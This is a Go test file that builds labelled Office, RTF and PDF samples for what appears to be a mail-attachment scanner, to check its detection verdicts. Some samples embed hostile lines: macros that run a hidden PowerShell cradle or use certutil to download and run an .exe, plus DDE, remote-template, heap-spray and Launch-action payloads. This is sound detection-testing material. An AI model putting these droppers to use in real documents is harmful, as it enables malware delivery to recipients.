package corpus

import (
	"fmt"
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

const (
	vbaDropper = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Dim s As String\r\n  s = \"powershell -w hidden -c \"\"" + cradle + "\"\"\"\r\n  Shell s, vbHide\r\nEnd Sub\r\n"
	vbaDocOpen = "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\n  Set w = CreateObject(\"WScript.Shell\")\r\n  w.Run \"cmd /c certutil -urlcache -f " + payloadURL + " %TEMP%\\a.exe && %TEMP%\\a.exe\", 0\r\nEnd Sub\r\n"
	vbaBenign  = "Attribute VB_Name = \"Module1\"\r\nSub FormatReport()\r\n  Dim r As Range\r\n  For Each r In ActiveSheet.UsedRange.Rows\r\n    r.Font.Bold = (r.Row = 1)\r\n  Next r\r\nEnd Sub\r\n"
	vbaAutoOK  = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  ActiveWindow.View.Zoom.Percentage = 120\r\nEnd Sub\r\n"
)

func vbaObfuscated() string {
	var b strings.Builder
	b.WriteString("Attribute VB_Name = \"Module1\"\r\nSub Workbook_Open()\r\n  Dim p As String\r\n  p = ")
	for i, r := range "moc.elpmaxe.0" {
		if i > 0 {
			b.WriteString(" & ")
		}
		fmt.Fprintf(&b, "Chr(%d)", r)
	}
	b.WriteString("\r\n  p = p & ")
	for i, r := range "ptth//:" {
		if i > 0 {
			b.WriteString(" & ")
		}
		fmt.Fprintf(&b, "ChrW(%d)", r)
	}
	b.WriteString("\r\n  p = StrReverse(p)\r\n  Range(\"A1\").Value = p\r\nEnd Sub\r\n")
	return b.String()
}

func documentSamples() []Sample {
	eicarPkg := OLEPackage("readme.com", []byte(EICAR))
	exePkg := OLEPackage("invoice.pdf.exe", PE{Sections: []PESection{{Name: ".text", Data: Code(512), Flags: SCNCode | SCNExecute | SCNRead}}}.Bytes())
	js := func(code string) string { return "(" + strings.NewReplacer("(", `\(`, ")", `\)`).Replace(code) + ")" }
	return []Sample{
		// OLE documents.
		{Name: "autoopen-shell.doc", Want: verdict.Malicious, Why: "AutoOpen macro running a PowerShell cradle", Data: WordDoc([2]string{"Module1", vbaDropper})},
		{Name: "autoopen-benign.doc", Want: verdict.Suspicious, Why: "AutoOpen macro that only sets the zoom", Data: WordDoc([2]string{"Module1", vbaAutoOK})},
		{Name: "xlm-autoopen.xls", Want: verdict.Malicious, Why: "hidden Excel 4.0 macro sheet with Auto_Open", Data: ExcelDoc(Workbook(true, Sheet{Name: "Sheet1"}, Sheet{Name: "Macro1", Macro: true, Hidden: 2}))},
		{Name: "xlm-visible.xls", Want: verdict.Suspicious, Why: "visible Excel 4.0 macro sheet, no Auto_Open", Data: ExcelDoc(Workbook(false, Sheet{Name: "Sheet1"}, Sheet{Name: "Macro1", Macro: true}))},
		{Name: "workbook-open-obfuscated.xls", Want: verdict.HighlySuspicious, Why: "Workbook_Open with Chr() chains and StrReverse", Data: ExcelDoc(Workbook(false, Sheet{Name: "Sheet1"}), [2]string{"Module1", vbaObfuscated()})},
		{Name: "clean-legacy.doc", Want: verdict.Clean, Why: "Word 97 document without macros", Data: WordDoc()},
		{Name: "clean-legacy.xls", Want: verdict.Clean, Why: "Excel 97 workbook with two worksheets", Data: ExcelDoc(Workbook(false, Sheet{Name: "Sheet1"}, Sheet{Name: "Sheet2"}))},
		{Name: "clean-macro-manual.xls", Want: verdict.Clean, Why: "workbook with a formatting macro that does not run by itself", Data: ExcelDoc(Workbook(false, Sheet{Name: "Sheet1"}), [2]string{"Module1", vbaBenign})},

		// OOXML.
		{Name: "document-open.docm", Want: verdict.Malicious, Why: "Document_Open in vbaProject.bin running certutil", Data: Docx(Para("Enable content to view this document."), ZipEntry{Name: "word/vbaProject.bin", Data: VBAProjectBin([2]string{"ThisDocument", vbaDocOpen})})},
		{Name: "clean-macro-manual.xlsm", Want: verdict.Clean, Why: "xlsm with a manual formatting macro", Data: Xlsx("", ZipEntry{Name: "xl/vbaProject.bin", Data: VBAProjectBin([2]string{"Module1", vbaBenign})})},
		{Name: "xlm-macrosheet.xlsm", Want: verdict.HighlySuspicious, Why: "OOXML Excel 4.0 macro sheet", Data: Xlsx("", ZipEntry{Name: "xl/macrosheets/sheet1.xml", Data: []byte(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`)})},
		{Name: "xlm-autoopen.xlsm", Want: verdict.Malicious, Why: "OOXML macro sheet with _xlnm.Auto_Open", Data: Xlsx(`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>`, ZipEntry{Name: "xl/macrosheets/sheet1.xml", Data: []byte(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`)})},
		{Name: "remote-template.docx", Want: verdict.Malicious, Why: "attachedTemplate fetched from a remote address", Data: Docx(Para("Loading…"), ZipEntry{Name: "word/_rels/settings.xml.rels", Data: Rels(Rel{Type: "attachedTemplate", Target: "http://198.51.100.7/t.dotm", Mode: "External"})})},
		{Name: "clean-local-template.docx", Want: verdict.Clean, Why: "attachedTemplate pointing at a local Normal.dotm", Data: Docx(Para("Minutes of the meeting"), ZipEntry{Name: "word/_rels/settings.xml.rels", Data: Rels(Rel{Type: "attachedTemplate", Target: "file:///C:/Users/a/AppData/Roaming/Microsoft/Templates/Normal.dotm", Mode: "External"})})},
		{Name: "external-ole.docx", Want: verdict.Malicious, Why: "OLE object linked to a remote HTA", Data: Docx(Para("See below"), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "oleObject", Target: "http://203.0.113.9/x.hta", Mode: "External"})})},
		{Name: "dde-cmd.docx", Want: verdict.Malicious, Why: "DDEAUTO field starting cmd", Data: Docx(Field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `))},
		{Name: "dde-plain.docx", Want: verdict.HighlySuspicious, Why: "DDE field", Data: Docx(Field(` DDE "Excel" "Sheet1" "R1C1" `))},
		{Name: "activex.docx", Want: verdict.Suspicious, Why: "ActiveX control parts", Data: Docx(Para("Form"), ZipEntry{Name: "word/activeX/activeX1.xml", Data: []byte(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`)})},
		{Name: "packaged-eicar.docx", Want: verdict.Malicious, Why: "OLE package holding the EICAR file", Data: Docx(Para("Double-click the icon"), ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: eicarPkg})},
		{Name: "packaged-exe.docx", Want: verdict.HighlySuspicious, Why: "OLE package holding invoice.pdf.exe", Data: Docx(Para("Double-click the icon"), ZipEntry{Name: "word/embeddings/oleObject1.bin", Data: exePkg})},
		{Name: "clean-report.docx", Want: verdict.Clean, Why: "plain document with a hyperlink relationship", Data: Docx(Para("Quarterly report")+Para("Revenue grew."), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "hyperlink", Target: "https://www.example.org/report", Mode: "External"})})},
		{Name: "clean-figures.xlsx", Want: verdict.Clean, Why: "plain workbook", Data: Xlsx("")},

		// RTF.
		{Name: "equation.rtf", Want: verdict.Malicious, Why: "Equation.3 object", Data: []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Invoice ` + RTFObject("Equation.3", Noise(300, 7), true, false) + `}`)},
		{Name: "ole2link.rtf", Want: verdict.Malicious, Why: "OLE2Link object (CVE-2017-0199 style)", Data: []byte(`{\rtf1\ansi Order ` + RTFObject("OLE2Link", Noise(200, 9), true, false) + `}`)},
		{Name: "objupdate-package.rtf", Want: verdict.HighlySuspicious, Why: "self-updating Package object holding a .exe", Data: []byte(`{\rtf1\ansi See attachment ` + RTFObject("Package", Ole10Native("setup.exe", []byte("MZ"+strings.Repeat("\x00", 100)))[4:], true, false) + `}`)},
		{Name: "obfuscated-objdata.rtf", Want: verdict.HighlySuspicious, Why: "objdata broken by junk groups, objupdate, odd header", Data: []byte(`{\rt1\ansi x ` + RTFObject("Word.Document.8", Noise(600, 11), true, true) + `}`)},
		{Name: "clean-letter.rtf", Want: verdict.Clean, Why: "plain RTF letter", Data: []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}\f0\fs24 Dear customer,\par thank you for your order.\par}`)},

		// PDF.
		{Name: "clean-plain.pdf", Want: verdict.Clean, Why: "one page of text", Data: SimplePDF("Hello, this is a plain document.", "")},
		{Name: "clean-links.pdf", Want: verdict.Clean, Why: "PDF with URI link annotations and an outline", Data: SimplePDF("Visit our site.", "/Outlines 6 0 R",
			PDFObj{Body: "<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://www.example.org/) >> >>"},
			PDFObj{Body: "<< /Type /Outlines /Count 0 >>"})},
		{Name: "clean-form.pdf", Want: verdict.Clean, Why: "PDF with an AcroForm text field, object stream", Data: SimplePDF("Fill in the form.", "/AcroForm 5 0 R",
			PDFObj{Body: "<< /Fields [6 0 R] >>"},
			ObjStm(6, "<< /FT /Tx /T (name) /Rect [72 600 300 620] >>"))},
		{Name: "clean-form-scripts.pdf", Want: verdict.Clean, Why: "form fields with Acrobat number/calculation helpers in /AA", Data: SimplePDF("Tax form", "/AcroForm << /Fields [5 0 R 6 0 R] >>",
			PDFObj{Body: "<< /FT /Tx /T (amount) /Rect [72 600 300 620] /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"EUR\", true\\);) >> /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"EUR\", true\\);) >> >> >>"},
			PDFObj{Body: "<< /FT /Tx /T (total) /Rect [72 560 300 580] /AA << /C << /S /JavaScript /JS (AFSimple_Calculate\\(\"SUM\", new Array \\(\"amount\"\\)\\);) >> >> >>"})},
		{Name: "xfa.pdf", Want: verdict.Clean, Why: "XFA form without script (look-alike)", Data: SimplePDF("Form", "/AcroForm << /XFA 5 0 R >>", PDFObj{Body: "<<", Stream: []byte("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>")})},
		{Name: "js-openaction.pdf", Want: verdict.HighlySuspicious, Why: "OpenAction JavaScript", Data: SimplePDF("Loading", "/OpenAction 5 0 R", PDFObj{Body: "<< /Type /Action /S /JavaScript /JS " + js(`app.alert("Please enable editing");`) + " >>"})},
		{Name: "js-exploit.pdf", Want: verdict.Malicious, Why: "heap spray and util.printf", Data: SimplePDF("x", "/OpenAction 5 0 R", PDFObj{Body: "<< /S /JavaScript /JS 6 0 R >>"}, PDFObj{Body: "<<", Stream: []byte(`var sc = unescape("%u9090%u9090%u4141"); while (sc.length < 0x10000) sc += sc; util.printf("%45000f", 0);`), Flate: true})},
		{Name: "hexname-js.pdf", Want: verdict.HighlySuspicious, Why: "/J#61vaScript and /Open#41ction", Data: SimplePDF("x", "/Open#41ction 5 0 R", PDFObj{Body: "<< /S /J#61vaScript /J#53 " + js(`app.alert(1);`) + " >>"})},
		{Name: "objstm-js.pdf", Want: verdict.HighlySuspicious, Why: "JavaScript action hidden in a compressed object stream", Data: SimplePDF("x", "/OpenAction 6 0 R", PDFObj{Body: "<< /Type /XRef >>"}, ObjStm(6, "<< /S /JavaScript /JS "+js(`this.print({bUI:false});`)+" >>"))},
		{Name: "launch-cmd.pdf", Want: verdict.Malicious, Why: "Launch action starting cmd.exe", Data: SimplePDF("x", "/OpenAction 5 0 R", PDFObj{Body: "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -enc " + PSEncode(cradle) + ") >> >>"})},
		{Name: "submitform.pdf", Want: verdict.Suspicious, Why: "SubmitForm to a remote address", Data: SimplePDF("Login", "/AcroForm << /Fields [] >>", PDFObj{Body: "<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/p) >> >> >>"})},
		{Name: "embedded-exe.pdf", Want: verdict.HighlySuspicious, Why: "embedded file invoice.exe holding a PE", Data: SimplePDF("See attachment", "/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
			PDFObj{Body: "<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>"},
			PDFObj{Body: "<< /Type /EmbeddedFile", Stream: PE{Sections: []PESection{{Name: ".text", Data: Code(512), Flags: SCNCode | SCNExecute | SCNRead}}, Imports: map[string][]string{"kernel32.dll": {"ExitProcess"}}}.Bytes(), Flate: true})},
		{Name: "embedded-eicar.pdf", Want: verdict.Malicious, Why: "embedded EICAR file (compressed)", Data: SimplePDF("See attachment", "/Names << /EmbeddedFiles << /Names [(eicar.txt) 5 0 R] >> >>",
			PDFObj{Body: "<< /Type /Filespec /F (eicar.txt) /EF << /F 6 0 R >> >>"},
			PDFObj{Body: "<< /Type /EmbeddedFile", Stream: []byte(EICAR), Flate: true})},
		{Name: "export-launch.pdf", Want: verdict.Malicious, Why: "exportDataObject with nLaunch", Data: SimplePDF("x", "/OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(a.txt) 6 0 R] >> >>",
			PDFObj{Body: "<< /S /JavaScript /JS " + js(`this.exportDataObject({cName: "a.txt", nLaunch: 2});`) + " >>"},
			PDFObj{Body: "<< /Type /Filespec /F (a.txt) >>"})},
	}
}
